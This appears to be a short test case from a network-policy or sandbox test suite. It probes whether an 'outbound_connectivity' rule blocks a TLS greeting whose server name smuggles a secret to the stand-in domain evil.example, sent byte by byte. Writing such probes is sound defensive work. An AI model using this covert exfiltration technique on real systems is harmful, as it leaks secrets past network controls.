# class: network
# rule: outbound_connectivity
# policy: shared.yaml
# success: a TLS greeting that names another server goes out byte by byte
# proof: word
# needs: resolver
from attack import SECRET, at_allowed, attempt, greeting


@attempt
def send():
    return at_allowed(
        lambda out: [out.send(bytes([byte])) for byte in greeting(SECRET + ".evil.example")]
    )
